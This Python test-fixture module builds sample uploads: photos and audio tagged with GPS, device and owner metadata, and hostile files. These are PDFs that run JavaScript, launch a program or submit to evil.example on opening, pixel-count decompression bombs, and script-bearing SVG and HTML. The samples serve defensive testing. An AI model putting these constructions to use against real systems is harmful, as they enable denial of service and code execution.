"""Files as phones make them, and as attackers do: made here, byte by byte, none of them in the repository."""

import io
import struct
import wave
import zipfile
import zlib

from PIL import Image, ImageDraw
from pillow_heif import register_heif_opener

from backend.files.sounds import crc

register_heif_opener()

LAT, LNG = 39.929861, 116.417592
TAKEN = "2026:11:20 09:30:15"
DEVICE = "Huawei Mate XT of Wang Xiulan"


def picture(width=1600, height=1200, colour=(200, 60, 40)):
    """Something that has an upper left: a face of a house."""
    image = Image.new("RGB", (width, height), (240, 240, 235))
    draw = ImageDraw.Draw(image)
    draw.rectangle((0, 0, width // 3, height // 4), fill=colour)
    draw.ellipse((width // 2, height // 3, width - 40, height - 60), fill=(30, 90, 160))
    draw.line((0, height, width, height // 2), fill=(20, 20, 20), width=width // 60)
    for step in range(12):
        draw.rectangle(
            (width // 12 * step, height * 3 // 4, width // 12 * step + width // 30, height), fill=(step * 20, 120, 80)
        )
    return image


def exif(*, gps=True, orientation=1):
    """As a phone writes it: device, time, place."""
    made = Image.Exif()
    made[0x010F], made[0x0110], made[0x0112] = "Huawei", DEVICE, orientation
    made[0x9286] = b"ASCII\0\0\0secret comment"
    ifd = made.get_ifd(0x8769)
    ifd[0x9003], ifd[0x9011] = TAKEN, "+08:00"
    if gps:
        place = made.get_ifd(0x8825)
        place[1], place[2] = "N", dms(LAT)
        place[3], place[4] = "E", dms(LNG)
    return made


def dms(degrees):
    whole = int(degrees)
    minutes = int((degrees - whole) * 60)
    return (float(whole), float(minutes), round((degrees - whole - minutes / 60) * 3600, 4))


def photo(kind="JPEG", *, image=None, **more):
    out = io.BytesIO()
    (image or picture()).save(out, kind, **more)
    return out.getvalue()


def jpeg(**more):
    return photo("JPEG", exif=exif(), quality=90, **more)


def heic(**more):
    return photo("HEIF", exif=exif().tobytes(), quality=70, **more)


def wav(seconds=1, *, told=True):
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8_000)
        sound.writeframes(bytes(16_000 * seconds))
    data = out.getvalue()
    if told:
        secret = (
            b"INFOIART" + struct.pack("<I", len(DEVICE) + 1) + DEVICE.encode() + b"\0" * (1 + (len(DEVICE) + 1) % 2)
        )
        data += b"LIST" + struct.pack("<I", len(secret)) + secret
        data = data[:4] + struct.pack("<I", len(data) - 8) + data[8:]
    return data


def box(name, *bodies):
    body = b"".join(bodies)
    return struct.pack(">I4s", len(body) + 8, name) + body


def m4a(*, handler=b"soun", brand=b"mp42", place=b"+39.9298+116.4175/", seconds=2, chunk=None):
    """The boxes that a recorder writes, with a place as Android puts it."""
    sound = bytes(range(256)) * 8
    ftyp = box(b"ftyp", brand, bytes(4), brand, b"isom")
    hdlr = box(b"hdlr", bytes(8), handler, bytes(12), b"Recorder\0")
    mdhd = box(b"mdhd", struct.pack(">IIIIIHH", 0, 0, 0, 8_000, 8_000 * seconds, 0, 0))

    def moov(at):
        table = box(
            b"stbl",
            box(b"stsz", struct.pack(">IIIII", 0, 0, 2, 1_024, 1_024)),
            box(b"stco", struct.pack(">III", 0, 1, at)),
        )
        trak = box(
            b"trak",
            box(b"tkhd", bytes(84)),
            box(b"mdia", mdhd, hdlr, box(b"minf", table)),
            box(b"udta", box(b"name", DEVICE.encode())),
        )
        udta = box(b"udta", box(b"\xa9xyz", struct.pack(">HH", len(place), 0), place))
        return box(b"moov", box(b"mvhd", bytes(100)), trak, udta)

    at = len(ftyp) + len(moov(0)) + 8
    return ftyp + moov(at if chunk is None else chunk) + box(b"mdat", sound)


def mp3(*, tagged=True):
    frame = b"\xff\xfb\x90\x64" + bytes(413)
    tag = b"ID3\x03\0\0" + bytes([0, 0, 1, 0]) + DEVICE.encode().ljust(128, b"\0") if tagged else b""
    return tag + frame * 20 + (b"TAG" + DEVICE.encode().ljust(125, b"\0") if tagged else b"")


def aac():
    return (b"\xff\xf1\x50\x80" + bytes([(100 >> 3) & 0xFF, (100 & 7) << 5 | 0x1F, 0xFC]) + bytes(93)) * 30


def amr():
    return b"#!AMR\n" + (b"\x3c" + bytes(31)) * 50


def ogg(*, head=b"OpusHead" + bytes(11), tags=None):
    if tags is None:
        secret = DEVICE.encode()
        tags = b"OpusTags" + struct.pack("<I", 4) + b"Lavf" + struct.pack("<II", 1, len(secret)) + secret

    def page(number, body, flags=0):
        laces = [255] * (len(body) // 255) + [len(body) % 255]
        made = bytearray(
            b"OggS\0" + bytes([flags]) + struct.pack("<qIII", 0, 7, number, 0) + bytes([len(laces), *laces]) + body
        )
        made[22:26] = struct.pack("<I", crc(bytes(made)))
        return bytes(made)

    return page(0, head, 2) + page(1, tags) + page(2, bytes(400)) + page(3, bytes(300), 4)


def element(name, body, *, streamed=False):
    long = b"\x01" + (b"\xff" * 7 if streamed else len(body).to_bytes(7, "big"))
    size = bytes([0x80 | len(body)]) if len(body) < 127 and not streamed else long
    return name + size + body


def webm(*, track=2, streamed=True):
    head = element(b"\x1a\x45\xdf\xa3", element(b"\x42\x82", b"webm"))
    named = element(b"\x53\x6e", DEVICE.encode())
    tracks = element(b"\x16\x54\xae\x6b", element(b"\xae", element(b"\x83", bytes([track])) + named))
    titled = element(b"\x7b\xa9", DEVICE.encode() * 8) + element(b"\x44\x61", bytes(8))
    told = element(b"\x15\x49\xa9\x66", titled)
    tags = element(b"\x12\x54\xc3\x67", DEVICE.encode())
    cluster = element(b"\x1f\x43\xb6\x75", element(b"\xe7", b"\0") + element(b"\xa3", bytes(300)), streamed=streamed)
    return head + element(b"\x18\x53\x80\x67", told + tags + tracks + cluster, streamed=streamed)


def pdf():
    return b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def hiding(action):
    """A paper that does something when it is opened, where its reader lets it."""
    catalogue = b"<< /Type /Catalog /OpenAction " + action + b" >>"
    return b"%PDF-1.7\n1 0 obj\n" + catalogue + b"\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


PAPERS = {
    "a script": hiding(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "a program to launch": hiding(b"<< /S /Launch /F (calc.exe) >>"),
    "a file within": hiding(b"<< /S /GoToE /T << /R /C /N (in.exe) >> >> /Names << /EmbeddedFiles << >> >>"),
    "a page to send to": hiding(b"<< /S /SubmitForm /F (https://evil.example) >>"),
}


def archive(name="photo.jpg"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(name, b"not a photo")
    return out.getvalue()


def bomb(side=60_000):
    """A PNG of 3.6 billion pixels in a few kilobytes."""

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    rows = zlib.compress(bytes(10_000_000), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
    )


def jpeg_bomb():
    """Says that it has 4.3 billion pixels."""
    made = bytearray(photo("JPEG", image=picture(320, 240)))
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(made)


def webp_bomb(side=16_384):
    """A canvas of 268 million pixels around a picture of few."""
    inside = photo("WEBP", image=picture(320, 240), lossless=True)[12:]
    canvas = b"VP8X" + struct.pack("<I", 10) + bytes(4) + (side - 1).to_bytes(3, "little") * 2
    return b"RIFF" + struct.pack("<I", 4 + len(canvas + inside)) + b"WEBP" + canvas + inside


def heic_that_says(side, *, of=None):
    """A HEIC whose container tells another size than its picture has."""
    made = bytearray(photo("HEIF", image=of or picture(320, 240)))
    at = -1
    while (at := made.find(b"ispe", at + 1)) >= 0:
        made[at + 8 : at + 16] = struct.pack(">II", side, side)
    return bytes(made)


def commented(comment):
    """A JPEG with a comment, which is the first thing in it."""
    made = jpeg()
    return made[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + made[2:]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
SOUNDS = {
    "audio/wav": wav,
    "audio/mp4": m4a,
    "audio/mpeg": mp3,
    "audio/aac": aac,
    "audio/amr": amr,
    "audio/ogg": ogg,
    "audio/webm": webm,
}
